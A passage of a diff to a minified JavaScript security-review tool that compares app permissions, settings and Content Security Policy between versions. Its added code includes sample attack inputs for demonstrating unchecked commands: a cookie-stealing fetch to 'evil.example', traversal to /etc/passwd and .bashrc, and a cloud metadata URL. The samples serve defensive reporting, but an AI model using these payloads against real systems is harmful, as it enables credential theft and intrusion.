-commands/exposed",commands:commands2,callers,appIsNew,at:first.at,witness:exposedWitness(first),identity:JSON.stringify(["commands/exposed",commands2.map(({command:command2,
-inputs})=>[command2,inputs.map(({name})=>name)])])}]}var SETTING_RULES={"browser-extensions-allowed":"config/browser-extensions-allowed","browser-switch-added":"\
-config/browser-switch-added","cargo-feature-added":"config/cargo-feature-added","command-line-argument":"config/surface-grown","component-exported":"native/comp\
-onent-exported","database-opened":"config/database-opened","desktop-entry":"bundle/installer-code-changed","dev-policy":"config/surface-grown","dev-server-elsew\
-here":"config/dev-server-remote","devtools-in-release":"config/devtools-in-release","downgrade-allowed":"bundle/downgrade-allowed","dropped-files-in-scope":"con\
-fig/dropped-files-in-scope","elevated-update-task":"bundle/installer-elevated","engine-not-bundled":"config/engine-not-bundled","engine-replaced":"config/engine\
--replaced","feature-added":"native/feature-added","file-type-claimed":"config/file-type-claimed","foreign-script":"config/foreign-script","frontend-moved":"conf\
-ig/frontend-replaced","global-api-exposed":"config/global-api-exposed","hardened-runtime-off":"native/process-freed","header-weakened":"config/header-weakened",
-"identity-changed":"bundle/identity-changed","insecure-domain":"native/traffic-unprotected","installer-elevated":"bundle/installer-elevated","isolation-hook-cha\
-nged":"config/isolation-hook-changed","isolation-removed":"config/isolation-removed","key-trusted":"updates/key-trusted","link-scheme-claimed":"config/link-sche\
-me-claimed","local-scheme-added":"config/local-scheme-added","native-document":"config/file-type-claimed","native-library":"bundle/native-code-added","native-li\
-nk":"config/link-scheme-claimed","nsis-code":"bundle/installer-code-changed","package-file":"bundle/file-shipped","package-relation":"bundle/package-relation-ad\
-ded","package-script":"bundle/installer-code-changed","packing-changed":"bundle/packing-changed","page-unguarded":"config/page-unguarded","plain-origin":"config\
-/window-guard-removed","plugin-switch":"config/plugin-setting-changed","privilege-claimed":"native/privilege-claimed","privileged-file":"bundle/privileged-file-\
-installed","process-freed":"native/process-freed","prototype-unfrozen":"config/prototype-unfrozen","redirects-unscoped":"config/redirects-unscoped","remote-fron\
-tend":"config/remote-frontend","remote-window":"config/remote-window",resource:"bundle/file-shipped","resource-program":"bundle/program-changed","rollback-allow\
-ed":"updates/rollback-allowed","scope-opened-by-code":"config/scope-opened-by-code","scopes-persisted":"config/scopes-persisted","served-on-localhost":"config/s\
-erved-on-localhost","sidecar-added":"config/sidecar-added","sidecar-changed":"bundle/program-changed","signature-weakened":"bundle/signing-changed","signer-chan\
-ged":"bundle/signing-changed","source-added":"updates/source-added","switch-on":"config/surface-grown","traffic-proxied":"config/traffic-proxied","traffic-unpro\
-tected":"native/traffic-unprotected","transport-unchecked":"updates/transport-unchecked","update-unseen":"updates/installer-silenced","version-floor-lowered":"b\
-undle/webview-outdated","webview-not-updated":"bundle/webview-outdated","window-added":"config/window-added","window-disguised":"config/window-disguised","windo\
-w-guard-off":"config/window-guard-removed","window-habit":"config/surface-grown","window-storage":"config/surface-grown","wix-code":"bundle/installer-code-chang\
-ed","wix-reference":"bundle/installer-code-changed","xcode-template":"bundle/installer-code-changed"};function extentOf3({setting:setting44,extent,content,platforms}){
-return{setting:[setting44],...extent===""?{}:{of:[extent]},...content===null?{}:{content:[content]},platforms:(0,import_shared_aceps.platformsOf)(platforms)}}var WITHIN="\
-: ",MOST_WHOLES=4,Extents=class{#of=new Map;#wholes=new Map;#contents=new Map;constructor(grants){for(const grant2 of grants){const{setting:setting44,extent,content,
-platforms}=grant2;add3(this.#of,setting44,extent,platforms),grant2.isWhole&&add3(this.#wholes,setting44,extent,platforms),content!==null&&add3(this.#contents,setting44,
-content,platforms)}}platformsOf(asked4){const{setting:setting44,extent,content}=asked4,itself=this.#of.get(setting44)?.get(extent)??import_shared_aceps.NO_PLATFORM,
+const called4=new Set(commands2);return[...new Set(permissions2)].flatMap(permission2=>indexOf2(head).byPermission.get(permission2)??[]).filter(grant2=>grant2.capability===
+capability).filter(({effect,command:command2})=>effect==="scope"||effect==="allow"&&called4.has(command2))}var indexes3=new WeakMap;function indexOf2(head){const known13=indexes3.
+get(head);if(known13!==void 0)return known13;const index={byPermission:Map.groupBy(head,({permission:permission2})=>permission2),denying:head.filter(({scope})=>scope!==
+null&&scope.deny.length>0)};return indexes3.set(head,index),index}function elsewhere(own,commands2,head){const[called4,plugins]=[new Set(commands2),new Set(own.
+map(({plugin})=>plugin))],mine=new Set(own),words4=indexOf2(head).denying.filter(grant2=>!mine.has(grant2)).flatMap(({scope,effect,command:command2,plugin})=>(effect===
+"scope"?plugins.has(plugin):called4.has(command2))?(scope?.deny??[]).map(textOf8):[]);return words4.length===0?{}:{[import_shared_aces.DENIED_ELSEWHERE]:distinct3(
+words4)}}function readingOf3({plugin,matching:matching3}){return matching3.kind==="none"?[]:[`${plugin} ${JSON.stringify(matching3)}`]}function grantsWithin(extent,head){
+const{pages=[],commands:commands2=[],platforms=[],allow:allow2,deny=[],reads:reads2=[]}=extent,kept=extent[import_shared_aces.DENIED_ELSEWHERE]??[];if(allow2===
+void 0&&kept.length>0)return[];const on3=(0,import_shared_aceps.platformSet)(...platforms.filter(import_shared_aceps.isPlatform)),[called4,read11]=[new Set(commands2),
+new Set(reads2)];return head.filter(({effect,command:command2})=>effect==="allow"&&called4.has(command2)).filter(grant2=>readingOf3(grant2).every(reading=>read11.
+has(reading))).flatMap(grant2=>{const scope=allow2===void 0?null:scopeOf5(allow2,[...deny,...kept],grant2.at);return pages.map(page=>({...grant2,...audienceOf(page,
+grant2),platforms:grant2.platforms&on3,scope}))})}function scopeOf5(allow2,deny,at2){const entries=texts2=>texts2.map(text3=>({...entryOf6(text3),text:text3,at:at2}));
+return{allow:entries(allow2),deny:entries(deny)}}function pageText({kind,label,from}){const where=from.kind==="site"?` at ${from.url}`:from.kind==="app-not-site"?
+", own pages":"";return`${kind} ${label}${where}`}function audienceOf(page,{at:at2,context:context2}){const[,kind,label="",url]=/^(window|webview) (.*?)(?:, own pages| at (\S+))?$/.
+exec(page)??[],pattern={text:label,at:at2},from=url===void 0?{kind:"local"}:{kind:"remote",url:{text:url,at:at2},...context2.kind==="remote"&&takenForLocal2(context2)};
+return{windows:kind==="window"?[pattern]:[],webviews:kind==="webview"?[pattern]:[],context:from}}function takenForLocal2({takenForLocal:takenForLocal3}){return takenForLocal3===
+void 0?{}:{takenForLocal:takenForLocal3}}function distinct3(words4){return[...new Set(words4)].sort()}var COMMAND_POWERS=["run","update","script","change-files",
+"read-files","sql","network","window"],RULE_OF_POWER={run:"commands/unchecked-program",update:"commands/unchecked-url",script:"commands/unchecked-program","chan\
+ge-files":"commands/unchecked-path","read-files":"commands/unchecked-path",sql:"commands/unchecked-program",network:"commands/unchecked-url",window:"commands/un\
+checked-url"};function extentOf2(change2){if(change2.rule==="commands/exposed")return{commands:change2.commands.map(({command:command2,inputs})=>`${command2}(${inputs.
+map(({name})=>name).join(", ")})`).sort()};const flows=[change2.flow,...change2.also].map(({power,input})=>`${power} by ${input}`);return{commands:[change2.command],
+callers:[change2.callers],does:[...new Set(flows)].sort()}}function pairedCommands(base,head){const byName4=new Map(base.map(grant2=>[grant2.command,grant2])),names4=new Set(
+head.map(({command:command2})=>command2)),gone=Map.groupBy(base.filter(({command:command2})=>!names4.has(command2)),likeness2);return new Map(head.flatMap(grant2=>{
+const was=byName4.get(grant2.command)??gone.get(likeness2(grant2))?.shift();return was===void 0?[]:[[grant2,was]]}))}function likeness2({door,inputs,flows,callers}){
+const does=flows.map(({power,checks})=>`${power} ${checks.length>0}`);return JSON.stringify([door,inputs.map(({name,type})=>[name,type]),[...new Set(does)].sort(),
+callers])}var EXAMPLES={run:"/usr/bin/env",update:"https://evil.example/latest.json",script:"fetch('https://evil.example/' + document.cookie)","change-files":".\
+./../../../home/user/.bashrc","read-files":"../../../../etc/passwd",sql:"SELECT * FROM sqlite_master",network:"http://169.254.169.254/latest/meta-data/",window:"\
+https://evil.example/"};function commandWitness(door,command2,{input,power}){const example=EXAMPLES[power],witness=witnessOf(command2,payloadOf(input,example)),
+name=command2.slice(door.length+1),handed=(0,import_shared_acegpst.visible)(JSON.stringify(example));switch(door){case"command":return witness;case"event":return{
+...witness,text:`emit(${(0,import_shared_acegpst.visible)(JSON.stringify(name))}, ${handed})`};case"scheme":return{...witness,text:`fetch(${(0,import_shared_acegpst.visible)(
+JSON.stringify(`${name}://localhost/`))} + ${handed})`};case"handler":return{...witness,text:`${(0,import_shared_acegpst.visible)(name)} is told of an address w\
+ith ${handed}`}}}function exposedWitness({command:command2,inputs}){return witnessOf(command2,Object.fromEntries(inputs.map(({name})=>[name,"\u2026"])))}function witnessOf(command2,payload){
+const shown4=Object.keys(payload).length===0?"":`, ${(0,import_shared_acegpst.visible)(JSON.stringify(payload))}`;return{kind:"invoke",text:`invoke(${(0,import_shared_acegpst.visible)(
+JSON.stringify(command2))}${shown4})`,platform:"any",window:"main",webview:"main",origin:"local",command:command2,payload}}function payloadOf(input,example){const[
+name="",...fields3]=input.split("."),inner=fields3.length===0?example:payloadOf(fields3.join("."),example),key3=name.replace(/(?:\[\])+$/,"");return{[key3]:name===
+key3?inner:[inner]}}var commandComparison={domain:"commands",compare(base,head){const before3=pairedCommands(base??[],head),unchecked=head.flatMap(grant2=>uncheckedIn(
+before3.get(grant2),grant2,base===null)),told3=new Set(unchecked.map(({command:command2})=>command2)),left2=pairedCommands(head,base??[]);return{changes:[...unchecked,
+...exposed(before3,head,told3,base===null),...(base??[]).flatMap(grant2=>uncheckedIn(left2.get(grant2),asFarAs(grant2),!1).map(change2=>({...change2,direction:"\
+narrowed"})))],gaps:[]}},allows(grants,change2){const own=grants.filter(({command:command2})=>command2===change2.witness.command);if(change2.rule==="commands/ex\
+posed"){const names4=Object.keys(change2.witness.payload);return own.some(({inputs})=>names4.every(name=>inputs.some(input=>input.name===name)))}const{power}=change2.
+flow;return own.some(({flows})=>flows.some(flow=>flow.power===power&&flow.checks.length===0))},extentOf:extentOf2},CALLS_AT_HEAD=3;function asFarAs(grant2){return{
+...grant2,flows:grant2.flows.filter(({steps})=>steps<=CALLS_AT_HEAD)}}function uncheckedIn(before3,grant2,appIsNew){const had=new Set((before3?.flows??[]).filter(
+isUnchecked).map(({power})=>power)),news=grant2.flows.filter(flow=>isUnchecked(flow)&&!had.has(flow.power)).toSorted(byWorst),lostOf2=({power})=>[...new Set((before3?.
+flows??[]).filter(flow=>flow.power===power).flatMap(({checks})=>checks))];return[...Map.groupBy(news,flow=>lostOf2(flow).length>0?"commands/check-removed":RULE_OF_POWER[flow.
+power])].map(([rule,[flow,...also]])=>changeOf13(rule,grant2,flow,also));function changeOf13(rule,{door,command:command2,callers},flow,also){const powers=[...new Set(
+[flow,...also].map(({power})=>power))];return{domain:"commands",direction:"widened",rule,door,command:command2,callers,appIsNew,isNew:before3===void 0,flow,also,
+lost:lostOf2(flow),at:flow.at,witness:commandWitness(door,command2,flow),identity:JSON.stringify([rule,command2,powers])}}}function isUnchecked({checks}){return checks.
+length===0}function byWorst(a3,b5){return COMMAND_POWERS.indexOf(a3.power)-COMMAND_POWERS.indexOf(b5.power)||a3.steps-b5.steps||a3.at.line-b5.at.line}function exposed(before3,head,told3,appIsNew){
+const commands2=head.flatMap(grant2=>{if(grant2.door!=="command")return[];const known13=before3.get(grant2),names4=new Set(known13?.inputs.map(({name})=>name)),
+inputs=grant2.inputs.filter(({name,isText:isText2})=>known13===void 0||isText2&&!names4.has(name));if(told3.has(grant2.command)||known13!==void 0&&inputs.length===
+0)return[];const{command:command2,at:at2}=grant2;return[{command:command2,isNew:known13===void 0,inputs,checked:grant2.flows.filter(flow=>!isUnchecked(flow)),at:at2}]}),
+[first]=commands2;if(first===void 0)return[];const callers=head.find(({command:command2})=>command2===first.command)?.callers??"own-pages";return[{domain:"comma\
+nds",direction:"widened",rule:"commands/exposed",commands:commands2,callers,appIsNew,at:first.at,witness:exposedWitness(first),identity:JSON.stringify(["command\
+s/exposed",commands2.map(({command:command2,inputs})=>[command2,inputs.map(({name})=>name)])])}]}var SETTING_RULES={"browser-extensions-allowed":"config/browser\
+-extensions-allowed","browser-switch-added":"config/browser-switch-added","cargo-feature-added":"config/cargo-feature-added","command-line-argument":"config/sur\
+face-grown","component-exported":"native/component-exported","database-opened":"config/database-opened","desktop-entry":"bundle/installer-code-changed","dev-pol\
+icy":"config/surface-grown","dev-server-elsewhere":"config/dev-server-remote","devtools-in-release":"config/devtools-in-release","downgrade-allowed":"bundle/dow\
+ngrade-allowed","dropped-files-in-scope":"config/dropped-files-in-scope","elevated-update-task":"bundle/installer-elevated","engine-not-bundled":"config/engine-\
+not-bundled","engine-replaced":"config/engine-replaced","feature-added":"native/feature-added","file-type-claimed":"config/file-type-claimed","foreign-script":"\
+config/foreign-script","frontend-moved":"config/frontend-replaced","global-api-exposed":"config/global-api-exposed","hardened-runtime-off":"native/process-freed",
+"header-weakened":"config/header-weakened","identity-changed":"bundle/identity-changed","insecure-domain":"native/traffic-unprotected","installer-elevated":"bun\
+dle/installer-elevated","isolation-hook-changed":"config/isolation-hook-changed","isolation-removed":"config/isolation-removed","key-trusted":"updates/key-trust\
+ed","link-scheme-claimed":"config/link-scheme-claimed","local-scheme-added":"config/local-scheme-added","native-document":"config/file-type-claimed","native-lib\
+rary":"bundle/native-code-added","native-link":"config/link-scheme-claimed","nsis-code":"bundle/installer-code-changed","package-file":"bundle/file-shipped","pa\
+ckage-relation":"bundle/package-relation-added","package-script":"bundle/installer-code-changed","packing-changed":"bundle/packing-changed","page-unguarded":"co\
+nfig/page-unguarded","plain-origin":"config/window-guard-removed","plugin-switch":"config/plugin-setting-changed","privilege-claimed":"native/privilege-claimed",
+"privileged-file":"bundle/privileged-file-installed","process-freed":"native/process-freed","prototype-unfrozen":"config/prototype-unfrozen","redirects-unscoped":"\
+config/redirects-unscoped","remote-frontend":"config/remote-frontend","remote-window":"config/remote-window",resource:"bundle/file-shipped","resource-program":"\
+bundle/program-changed","rollback-allowed":"updates/rollback-allowed","scope-opened-by-code":"config/scope-opened-by-code","scopes-persisted":"config/scopes-per\
+sisted","served-on-localhost":"config/served-on-localhost","sidecar-added":"config/sidecar-added","sidecar-changed":"bundle/program-changed","signature-weakened":"\
+bundle/signing-changed","signer-changed":"bundle/signing-changed","source-added":"updates/source-added","switch-on":"config/surface-grown","traffic-proxied":"co\
+nfig/traffic-proxied","traffic-unprotected":"native/traffic-unprotected","transport-unchecked":"updates/transport-unchecked","update-unseen":"updates/installer-\
+silenced","version-floor-lowered":"bundle/webview-outdated","webview-not-updated":"bundle/webview-outdated","window-added":"config/window-added","window-disguis\
+ed":"config/window-disguised","window-guard-off":"config/window-guard-removed","window-habit":"config/surface-grown","window-storage":"config/surface-grown","wi\
+x-code":"bundle/installer-code-changed","wix-reference":"bundle/installer-code-changed","xcode-template":"bundle/installer-code-changed"};function extentOf3({setting:setting44,
+extent,content,platforms}){return{setting:[setting44],...extent===""?{}:{of:[extent]},...content===null?{}:{content:[content]},platforms:(0,import_shared_aceps.platformsOf)(
+platforms)}}var WITHIN=": ",MOST_WHOLES=4,Extents=class{#of=new Map;#wholes=new Map;#contents=new Map;constructor(grants){for(const grant2 of grants){const{setting:setting44,
+extent,content,platforms}=grant2;add3(this.#of,setting44,extent,platforms),grant2.isWhole&&add3(this.#wholes,setting44,extent,platforms),content!==null&&add3(this.#contents,
+setting44,content,platforms)}}platformsOf(asked4){const{setting:setting44,extent,content}=asked4,itself=this.#of.get(setting44)?.get(extent)??import_shared_aceps.NO_PLATFORM,
 alike=content===null?void 0:this.#contents.get(setting44)?.get(content);return itself|(alike??import_shared_aceps.NO_PLATFORM)|this.platformsOfWholes(asked4)|this.#platformsSince(
 asked4)}#platformsSince({setting:setting44,extent}){return extent.includes(import_shared_ce.SINCE)?[...this.#of.get(setting44)??[]].filter(([each])=>(0,import_shared_ce.beginsBefore)(
 each,extent)).reduce((set,[,platforms])=>set|platforms,import_shared_aceps.NO_PLATFORM):import_shared_aceps.NO_PLATFORM}platformsOfWholes({setting:setting44,extent}){
@@ -10170,33 +10262,33 @@ const wholes=this.#wholes.get(setting44);return wholes===void 0?import_shared_ac
 import_shared_aceps.NO_PLATFORM)}extentsBySetting(){return new Map([...this.#of].map(([setting44,known13])=>[setting44,[...known13.keys()]]))}};function add3(to,setting44,name,platforms){
 const known13=to.get(setting44)??new Map;to.set(setting44,known13.set(name,(known13.get(name)??import_shared_aceps.NO_PLATFORM)|platforms))}function wholesOf(extent){
 if(extent==="")return[];const wholes=[""];for(let end=extent.indexOf(WITHIN);end>=0&&wholes.length<MOST_WHOLES;)wholes.push(extent.slice(0,end)),end=extent.indexOf(
-WITHIN,end+WITHIN.length);return wholes}var indexes3=new WeakMap;function candidates(grants,setting44,extent){const index=indexes3.get(grants)??indexOf2(grants);
-indexes3.set(grants,index);const exact=index.exact.get(nameOf8({setting:setting44,extent}))??[],wholes=index.wholes.get(setting44)??[];return[...exact,...wholes.
+WITHIN,end+WITHIN.length);return wholes}var indexes4=new WeakMap;function candidates(grants,setting44,extent){const index=indexes4.get(grants)??indexOf3(grants);
+indexes4.set(grants,index);const exact=index.exact.get(nameOf9({setting:setting44,extent}))??[],wholes=index.wholes.get(setting44)??[];return[...exact,...wholes.
 filter(whole2=>whole2.extent===""||extent.startsWith(`${whole2.extent}${WITHIN}`)),...extent.includes(import_shared_ce.SINCE)?settingsIn4(grants).filter(grant2=>grant2.
-setting===setting44&&(0,import_shared_ce.beginsBefore)(grant2.extent,extent)):[]]}function indexOf2(grants){const settings3=settingsIn4(grants);return{exact:Map.
-groupBy(settings3,nameOf8),wholes:Map.groupBy(settings3.filter(({isWhole:isWhole3})=>isWhole3),({setting:setting44})=>setting44)}}function placeOfPart(grants,part,platforms){
-return grants.find(grant2=>grant2.kind==="part"&&grant2.part===part&&(grant2.platforms&platforms)!==import_shared_aceps.NO_PLATFORM)?.at}function nameOf8({setting:setting44,
-extent}){return JSON.stringify([setting44,extent])}function partsIn(grants){const parts=new Map;for(const grant2 of grants)grant2.kind==="part"&&parts.set(grant2.
-part,(parts.get(grant2.part)??import_shared_aceps.NO_PLATFORM)|grant2.platforms);return parts}function settingsIn4(grants){return grants.filter(grant2=>grant2.kind===
-"setting")}var LONGEST_NAME2=64,configComparison={domain:"config",compare(base,head){return{changes:[...gained(base??[],head,"widened",base===null),...lifted(base??
-[],head,"widened"),...gained(head,withoutReplaced(base??[],head),"narrowed",!1),...lifted(head,base??[],"narrowed")],gaps:[]}},allows(grants,{witness,platforms}){
+setting===setting44&&(0,import_shared_ce.beginsBefore)(grant2.extent,extent)):[]]}function indexOf3(grants){const settings3=settingsIn4(grants);return{exact:Map.
+groupBy(settings3,nameOf9),wholes:Map.groupBy(settings3.filter(({isWhole:isWhole3})=>isWhole3),({setting:setting44})=>setting44)}}function placeOfPart(grants,part,platforms){
+return grants.find(grant2=>grant2.kind==="part"&&grant2.part===part&&(grant2.platforms&platforms)!==import_shared_aceps.NO_PLATFORM)?.at}function nameOf9({setting:setting44,
+extent}){return JSON.stringify([setting44,extent])}function partsIn(grants){const parts2=new Map;for(const grant2 of grants)grant2.kind==="part"&&parts2.set(grant2.
+part,(parts2.get(grant2.part)??import_shared_aceps.NO_PLATFORM)|grant2.platforms);return parts2}function settingsIn4(grants){return grants.filter(grant2=>grant2.
+kind==="setting")}var LONGEST_NAME2=64,configComparison={domain:"config",compare(base,head){return{changes:[...gained(base??[],head,"widened",base===null),...lifted(
+base??[],head,"widened"),...gained(head,withoutReplaced(base??[],head),"narrowed",!1),...lifted(head,base??[],"narrowed")],gaps:[]}},allows(grants,{witness,platforms}){
 const platform=witness.platform==="any"?(0,import_shared_aceps.platformsOf)(platforms)[0]:witness.platform;return witness.extent.startsWith(import_shared_ce.LIFTED)?
 !guardsIn(grants).filter(({extent})=>extent===witness.extent).some(guard2=>(0,import_shared_aceps.hasPlatform)(guard2.platforms,platform??import_shared_aceps.PLATFORMS[0])):
 candidates(grants,witness.setting,witness.extent).some(grant2=>(0,import_shared_aceps.hasPlatform)(grant2.platforms,platform??import_shared_aceps.PLATFORMS[0]))},
-extentOf:extentOf3};function gained(before2,after2,direction,appIsNew){const had=new Extents(settingsIn4(before2)),parts=partsIn(before2),found12=new Map;for(const grant2 of settingsIn4(
-after2)){const name=nameOf8(grant2),known14=found12.get(name),possible=grant2.comesWith===null?import_shared_aceps.EVERY_PLATFORM:parts.get(grant2.comesWith)??import_shared_aceps.NO_PLATFORM,
-platforms=grant2.platforms&~had.platformsOf(grant2)&possible|(known14?.platforms??import_shared_aceps.NO_PLATFORM);platforms!==import_shared_aceps.NO_PLATFORM&&
+extentOf:extentOf3};function gained(before3,after2,direction,appIsNew){const had=new Extents(settingsIn4(before3)),parts2=partsIn(before3),found12=new Map;for(const grant2 of settingsIn4(
+after2)){const name=nameOf9(grant2),known14=found12.get(name),possible=grant2.comesWith===null?import_shared_aceps.EVERY_PLATFORM:parts2.get(grant2.comesWith)??
+import_shared_aceps.NO_PLATFORM,platforms=grant2.platforms&~had.platformsOf(grant2)&possible|(known14?.platforms??import_shared_aceps.NO_PLATFORM);platforms!==import_shared_aceps.NO_PLATFORM&&
 found12.set(name,{...known14??grant2,platforms})}const wholes=new Extents(found12.values()),known13=had.extentsBySetting();return gravestOfEach([...found12.values()]).
 flatMap(grant2=>{const platforms=grant2.platforms&~wholes.platformsOfWholes(grant2);if(platforms===import_shared_aceps.NO_PLATFORM)return[];const extents=known13.
 get(grant2.setting)??[],waited=extents.includes(`${grant2.extent}${import_shared_ce.UNHEEDED}`),brought=waited&&grant2.heededBy?placeOfPart(after2,grant2.heededBy,
 platforms):void 0,context2={before:extents,waited:waited?grant2.at:null,appIsNew};return[{...changeOf2({...grant2,platforms,at:brought??grant2.at},direction),...context2}]})}
-function withoutReplaced(before2,after2){const still=new Set(settingsIn4(after2).map(({setting:setting44,cause})=>JSON.stringify([setting44,cause])));return before2.
+function withoutReplaced(before3,after2){const still=new Set(settingsIn4(after2).map(({setting:setting44,cause})=>JSON.stringify([setting44,cause])));return before3.
 filter(grant2=>grant2.kind!=="setting"||grant2.content===null||grant2.cause===null||!still.has(JSON.stringify([grant2.setting,grant2.cause])))}function gravestOfEach(grants){
 const byCause=Map.groupBy(grants,({cause})=>cause),isGravest=({cause,weighs})=>{const beside=cause===null?[]:byCause.get(cause)??[];return(0,import_shared_aceps.atLeast)(
 weighs??"critical",(0,import_shared_aceps.worst)(beside.map(each=>each.weighs??"critical")))},gravest2=grants.filter(isGravest),newThemselves=new Set(gravest2.flatMap(
-({cause,extent})=>extent===cause?[cause]:[]));return gravest2.filter(({cause,extent})=>!newThemselves.has(cause)||extent===cause)}function lifted(before2,after2,direction){
-const kept=Map.groupBy(guardsIn(after2),nameOf8);return[...new Map(guardsIn(before2).map(guard2=>[nameOf8(guard2),guard2])).values()].flatMap(guard2=>{const still=(kept.
-get(nameOf8(guard2))??[]).reduce((set,each)=>set|each.platforms,import_shared_aceps.NO_PLATFORM),platforms=guard2.platforms&~still;if(platforms===import_shared_aceps.NO_PLATFORM)
+({cause,extent})=>extent===cause?[cause]:[]));return gravest2.filter(({cause,extent})=>!newThemselves.has(cause)||extent===cause)}function lifted(before3,after2,direction){
+const kept=Map.groupBy(guardsIn(after2),nameOf9);return[...new Map(guardsIn(before3).map(guard2=>[nameOf9(guard2),guard2])).values()].flatMap(guard2=>{const still=(kept.
+get(nameOf9(guard2))??[]).reduce((set,each)=>set|each.platforms,import_shared_aceps.NO_PLATFORM),platforms=guard2.platforms&~still;if(platforms===import_shared_aceps.NO_PLATFORM)
 return[];const change2=changeOf2({...guard2,platforms},direction),was=direction==="widened"?guard2.at:null;return[{...change2,was,before:[],waited:null,appIsNew:!1}]})}
 function guardsIn(grants){return grants.filter(grant2=>grant2.kind==="guard")}function changeOf2(grant2,direction){const{setting:setting44,extent,platforms,subject,
 action,example,written:written6,at:at2,weighs,content}=grant2,[platform]=(0,import_shared_aceps.platformsOf)(platforms),isShort=content!==null&&content.length<=
@@ -10211,8 +10303,8 @@ lowed",class:"font"},media:{rule:"csp/media-allowed",class:"media"},manifest:{ru
 prefetch"},form:{rule:"csp/document-guard-removed",class:"form"},base:{rule:"csp/document-guard-removed",class:"base"},ancestor:{rule:"csp/document-guard-remove\
 d",class:"ancestor"},sandbox:{rule:"csp/document-guard-removed",class:"sandbox"},"trusted-types":{rule:"csp/document-guard-removed",class:"trusted-types"},upgrade:{
 rule:"csp/document-guard-removed",class:"upgrade"},report:{rule:"csp/report-collector-added",class:"report"}};function allowanceOf(what){return ALLOWANCES[what]}
-function extentOf4({act,also,allowed:allowed2,refused,platforms,page}){const[now,before2]=[wordsOf4(allowed2),wordsOf4(refused)];return{acts:[act.class,...also].
-sort(),added:now.filter(word2=>!before2.includes(word2)).sort(),removed:before2.filter(word2=>!now.includes(word2)).sort(),platforms,...page.path===null?{}:{page:[
+function extentOf4({act,also,allowed:allowed2,refused,platforms,page}){const[now,before3]=[wordsOf4(allowed2),wordsOf4(refused)];return{acts:[act.class,...also].
+sort(),added:now.filter(word2=>!before3.includes(word2)).sort(),removed:before3.filter(word2=>!now.includes(word2)).sort(),platforms,...page.path===null?{}:{page:[
 page.path]}}}function wordsOf4(stance){return stance.kind==="directive"?stance.words:[`(${stance.kind})`]}var SCRIPT_ELEMENTS=["script-src-elem","script-src","d\
 efault-src"],FRAMES=["frame-src","child-src","default-src"],LOAD_CHAINS={script:SCRIPT_ELEMENTS,worker:["worker-src","child-src","script-src","default-src"],frame:FRAMES,
 connect:["connect-src","default-src"],style:["style-src-elem","style-src","default-src"],object:["object-src","default-src"],image:["img-src","default-src"],font:[
@@ -10226,8 +10318,8 @@ script"?SCRIPT_ELEMENTS:act.class==="inline-handler"?["script-src-attr","script-
 ripts in a page",script:"scripts",eval:"code from strings",wasm:"code from strings",worker:"workers",frame:"frames",object:"frames",connect:"connections",style:"\
 styles","inline-style":"styles",form:"forms",base:"base",ancestor:"ancestors",image:"media",font:"media",media:"media",manifest:"media",prefetch:"media",sandbox:"\
 sandbox","trusted-types":"trusted types",upgrade:"upgrade",report:"reports"};function familyOf2(each){return FAMILIES[each]}var MOST_HOSTS=4;function group(all){
-const groups3=Object.values(Object.groupBy(all,keyOf6)).map(members2=>groupOf(members2??[]));return listManyHosts(groups3.filter(each=>!prefetchOnly(each,groups3))).
-sort(byClass)}function keyOf6({found:found12}){const{allowing,allowedBy,refusedBy,attempt:attempt2}=found12;if(allowing.grant.header===null)return"no policy";const[
+const groups3=Object.values(Object.groupBy(all,keyOf7)).map(members2=>groupOf(members2??[]));return listManyHosts(groups3.filter(each=>!prefetchOnly(each,groups3))).
+sort(byClass)}function keyOf7({found:found12}){const{allowing,allowedBy,refusedBy,attempt:attempt2}=found12;if(allowing.grant.header===null)return"no policy";const[
 family,refusing2]=[familyOf2(attempt2.act.class),refusedBy?.directive];if(!allowedBy)return JSON.stringify([family,FETCH_DIRECTIVES.includes(refusing2??"")?"unr\
 estricted":refusing2]);const{extent,target}=attempt2;return JSON.stringify([extent==="app"?"":family,refusing2,allowedBy.directive,extent,target])}function groupOf(members2){
 const[main,...rest2]=members2.toSorted((a3,b5)=>rank(a3)-rank(b5));if(!main)throw new Error("a group has at least one member");const classes=new Set(rest2.map(each=>each.
@@ -10237,15 +10329,15 @@ function rank({found:found12}){return CSP_CLASSES.indexOf(found12.attempt.act.cl
 return each.main.found.attempt.act.class==="prefetch"&&groups3.length>1}function listManyHosts(groups3){const byDirective=Object.groupBy(groups3,({main,extent})=>JSON.
 stringify([familyOf2(main.found.attempt.act.class),main.found.refusedBy?.directive,main.found.allowedBy?.directive,extent==="host"]));return Object.values(byDirective).
 flatMap((same=[])=>{const[first]=same;return first?.extent!=="host"||same.length<=MOST_HOSTS?same:[{...first,targets:same.flatMap(each=>each.targets)}]})}function builtElsewhere(base,head){
-const before2=new Map(pagesIn(base).map(page=>[page.path,page])),gaps=pagesIn(head).flatMap(({path,isLikely,builtTo})=>{const was=before2.get(path);if(path===null||
+const before3=new Map(pagesIn(base).map(page=>[page.path,page])),gaps=pagesIn(head).flatMap(({path,isLikely,builtTo})=>{const was=before3.get(path);if(path===null||
 !isLikely||!was?.builtTo||builtTo===null||was.policies.length===0)return[];if(was.builtTo.names.join("\0")===builtTo.names.join("\0"))return[];const message=`Th\
 e frontend is taken from another place now, and its front page isn't in the repository, so it isn't known whether it has the Content Security Policy of ${(0,import_shared_acegpst.code)(
 path)}: look at what is built there.`;return[(0,import_shared_acegos.gapAt)(builtTo.at,{kind:"not-checked",rests:(0,import_shared_acegos.wordsOf)("built to",builtTo.
 names,was.policies),message})]});return[...new Map(gaps.map(gap3=>[gap3.rests,gap3])).values()]}function pagesIn(grants){return grants.map(({page})=>page)}function sidesByPage(narrow,wide){
-const[before2,after2]=[likelyPages(narrow),likelyPages(wide)],gone=[...before2].filter(path=>!after2.has(path)),come=[...after2].filter(path=>!before2.has(path)),
+const[before3,after2]=[likelyPages(narrow),likelyPages(wide)],gone=[...before3].filter(path=>!after2.has(path)),come=[...after2].filter(path=>!before3.has(path)),
 itself=[...new Set([...narrow,...wide].map(pathOf3))].map(path=>({page:{path,with:"itself"},narrow:of(narrow,[path]),wide:of(wide,[path])})),lost2=gone.map(path=>({
 page:{path,with:"others"},narrow:of(narrow,[path]),wide:of(wide,come.length>0?come:[...after2])})),added=(gone.length>0?[]:come).map(path=>({page:{path,with:"ot\
-hers"},narrow:of(narrow,[...before2]),wide:of(wide,[path])}));return[...itself.filter(counts2),...lost2,...added].filter(sides=>sides.narrow.length>0&&sides.wide.
+hers"},narrow:of(narrow,[...before3]),wide:of(wide,[path])}));return[...itself.filter(counts2),...lost2,...added].filter(sides=>sides.narrow.length>0&&sides.wide.
